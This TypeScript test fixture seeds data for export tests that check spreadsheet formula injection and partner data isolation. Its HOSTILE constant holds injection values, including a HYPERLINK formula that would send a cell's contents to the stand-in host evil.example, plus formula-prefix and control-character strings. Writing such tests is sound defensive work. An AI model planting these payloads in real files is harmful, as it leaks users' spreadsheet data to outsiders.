import { randomUUID } from 'node:crypto';
import { bootTestApp, TestApp } from './test-app';
import { newOrganisation, signedIn, SignedInAgent } from './factories';

/**
 * The portfolio the export suites read: two actions (one with a partner organisation whose
 * names look like formulas, hostile titles, money in three currencies and a funding record
 * without currency; one the partner does not take part in), on the run's shared database.
 */

/** Cell values a spreadsheet would run as formulas or split as lines. */
export const HOSTILE = {
  hyperlink: '=HYPERLINK("http://evil.example/?x="&A1,"clic")',
  plus: '+1 línea eléctrica',
  minus: '-2',
  at: '@SUM(A1:A9)',
  tab: '\tx',
  cr: '\rcr',
};

export interface ExportPortfolio {
  t: TestApp;
  staff: SignedInAgent;
  director: SignedInAgent;
  /** A partner of `partnerOrg`, which takes part in the own action only. */
  partner: SignedInAgent;
  partnerOrg: string;
  otherOrg: string;
  ownCode: string;
  otherCode: string;
  ownId: string;
  otherId: string;
  /** The run's tag in both codes (EXP-<run>-OWN, EXP-<run>-OTHER). */
  run: string;
}

/** Boots the app, signs in one user per role and creates the two actions. */
export async function exportPortfolio(): Promise<ExportPortfolio> {
  const run = randomUUID().slice(0, 8).toUpperCase();
  const ownCode = `EXP-${run}-OWN`;
  const otherCode = `EXP-${run}-OTHER`;
  const t = await bootTestApp();
  const staff = await signedIn(t, 'staff');
  const director = await signedIn(t, 'director');
  const partnerOrg = await newOrganisation(t.db, {
    name: HOSTILE.hyperlink,
    acronym: HOSTILE.at,
    type: 'bilateral_agency',
    country: 'DE',
  });
  const otherOrg = await newOrganisation(t.db, {
    name: 'Otra agencia, "la otra"',
    type: 'multilateral',
  });
  const partner = await signedIn(t, 'partner', { organisationId: partnerOrg });
  const own = await staff.post('/api/v1/actions').send(ownAction(ownCode, partnerOrg, otherOrg));
  expect(own.body.details ?? own.body).toMatchObject({ code: ownCode });
  const ownId: string = own.body.id;
  // Historical records may lack a currency (only the seed and imports write them).
  await t.db.query(
    `INSERT INTO funding (action_id, type, amount, currency, value_date) VALUES ($1, 'prize', 361000, NULL, '2018-12-05')`,
    [ownId],
  );
  const other = await staff
    .post('/api/v1/actions')
    .send(otherAction(otherCode, otherOrg))
    .expect(201);
  const otherId: string = other.body.id;
  return {
    t,
    staff,
    director,
    partner,
    partnerOrg,
    otherOrg,
    ownCode,
    otherCode,
    ownId,
    otherId,
    run,
  };
}

/** The partner's action: hostile texts, internal notes, money in MXN, EUR and USD, a result. */
function ownAction(code: string, partnerOrg: string, otherOrg: string) {
  return {
    code,
    kind: 'cooperation_project',
    titleEs: HOSTILE.plus,
    titleEn: 'Electric route, "Peribús"\nsecond line',
    summaryEs: HOSTILE.minus,
    instituteRole: 'recipient',
    status: 'implementation',
    themes: ['movilidad', 'cambio-climatico', 'genero'],
    sdgs: [11, 13],
    unit: HOSTILE.tab,
    actualStart: '2019-01-14',
    plannedEnd: '2021-01-31',
    notes: 'NOTA-INTERNA-SECRETA',
    participations: [
      { organisationId: partnerOrg, role: 'funding', notes: 'PARTICIPACION-INTERNA' },
      { organisationId: partnerOrg, role: 'implementing' },
      { organisationId: otherOrg, role: 'beneficiary' },
    ],
    funding: [
      {
        type: 'ceiling',
        amount: '16187025.00',
        currency: 'MXN',
        valueDate: '2019-01-14',
        providerId: partnerOrg,
      },
      {
        type: 'commitment',
        amount: '1000000.50',
        currency: 'EUR',
        valueDate: '2019-02-01',
        providerId: partnerOrg,
      },
      { type: 'disbursement', amount: '250000.00', currency: 'USD', valueDate: '2019-06-01' },
      { type: 'expenditure', amount: '1079370.37', currency: 'MXN', valueDate: '2020-01-16' },
    ],
    milestones: [
      { type: 'kickoff', title: HOSTILE.at, actualDate: '2019-06-01' },
      { type: 'workshop', title: HOSTILE.cr, plannedDate: '2099-06-01' },
    ],
    results: [
      {
        statement: '38 autobuses eléctricos en operación',
        indicators: [
          {
            name: 'Autobuses eléctricos',
            unit: 'autobuses',
            baseline: '0',
            baselineDate: '2019-01-14',
            target: '38',
            targetDate: '2020-12-31',
            actual: '38',
            actualDate: '2020-12-31',
          },
        ],
      },
      { statement: 'Seis estudios técnicos financiados por CFF' },
    ],
  };
}

/** An action of another organisation only (the partner must never see it). */
function otherAction(code: string, otherOrg: string) {
  return {
    code,
    kind: 'city_to_city',
    titleEs: 'Acción ajena al socio',
    instituteRole: 'provider',
    themes: ['planeacion'],
    plannedStart: '2020-01-01',
    participations: [{ organisationId: otherOrg, role: 'counterpart' }],
    funding: [{ type: 'disbursement', amount: '5.00', currency: 'MXN', valueDate: '2020-02-02' }],
    milestones: [{ type: 'launch', title: 'Lanzamiento', actualDate: '2020-01-01' }],
    results: [{ statement: 'Resultado ajeno', indicators: [{ name: 'Ind ajeno', actual: '1' }] }],
  };
}
